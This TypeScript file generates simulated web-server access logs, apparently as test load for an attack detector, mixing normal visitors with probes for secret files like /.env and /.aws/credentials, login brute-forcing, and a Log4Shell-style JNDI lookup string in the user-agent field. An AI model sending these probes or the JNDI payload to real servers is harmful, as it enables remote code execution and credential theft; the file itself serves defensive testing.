/**
 * What clients do, from a seed: ordinary visitors, attackers of whom each asks one web server only, and an attack that many
 * clients make together on all of them.
 */
import type { Random } from '#libs/clock/random.ts';

export interface Line {
  /** When the web server writes it, ms from the start. */
  readonly atMs: number;
  /** Which web server. */
  readonly site: number;
  readonly text: (timeMs: number) => string;
}

interface Request {
  readonly ip: string;
  readonly method?: string;
  readonly path: string;
  readonly status: number;
  readonly agent?: string;
}

const PROBES = [
  '/.env',
  '/.git/config',
  '/phpmyadmin/index.php',
  '/wp-config.php.bak',
  '/.aws/credentials',
  '/backup.sql',
];
const ATTACKERS = 10;
/** More than login-distributed lets pass. */
const ALLIES = 24;
const VISITOR_GAP_MS = 120;

export function makeLoad(random: Random, sites: number, forMs: number): Line[] {
  const lines: Line[] = [];
  const add = (atMs: number, site: number, of: Request) => {
    if (atMs < forMs) lines.push({ atMs, site, text: (timeMs) => textOf(timeMs, of) });
  };
  for (let atMs = 0; atMs < forMs; atMs += 2 * VISITOR_GAP_MS * random.next()) {
    const site = Math.floor(random.next() * sites);
    const path = random.next() < 0.05 ? '/missing.html' : `/page/${Math.floor(random.next() * 50)}`;
    add(atMs, site, { ip: address(random, 80), path, status: path === '/missing.html' ? 404 : 200 });
  }
  for (let i = 0; i < ATTACKERS; i++) attack(i, random, Math.floor(random.next() * sites), 0.8 * forMs, add);
  for (let i = 0; i < ALLIES; i++) {
    const login = { method: 'POST', path: '/auth', status: 401 };
    add(0.8 * forMs * random.next(), i % sites, { ip: address(random, 60), ...login });
  }
  return lines.sort((a, b) => a.atMs - b.atMs);
}

function attack(
  kind: number,
  random: Random,
  site: number,
  latestMs: number,
  add: (atMs: number, site: number, of: Request) => void,
): void {
  const ip = address(random, 45);
  let atMs = random.next() * latestMs;
  const step = () => {
    atMs += 20 + random.next() * 400;
    return atMs;
  };
  if (kind % 3 === 0) {
    for (const path of PROBES) add(step(), site, { ip, path, status: 404 });
  } else if (kind % 3 === 1) {
    for (let i = 0; i < 12; i++) add(step(), site, { ip, method: 'POST', path: '/login', status: 401 });
  } else {
    for (let i = 0; i < 3; i++)
      add(step(), site, { ip, path: '/', status: 200, agent: '${jndi:ldap://198.18.0.1/a}' });
  }
}

function address(random: Random, first: number): string {
  const part = () => Math.floor(random.next() * 254) + 1;
  return `${first}.${part()}.${part()}.${part()}`;
}

function textOf(
  timeMs: number,
  { ip, method = 'GET', path, status, agent = 'Mozilla/5.0' }: Request,
): string {
  return (
    `{"v":1,"t":${(timeMs / 1000).toFixed(3)},"ip":"${ip}","h":"shop.example","m":"${method}","u":"${path}",` +
    `"p":"HTTP/1.1","s":${status},"b":512,"rt":0.004,"ua":"${agent}","rf":"","id":"","us":"","weir":""}`
  );
}
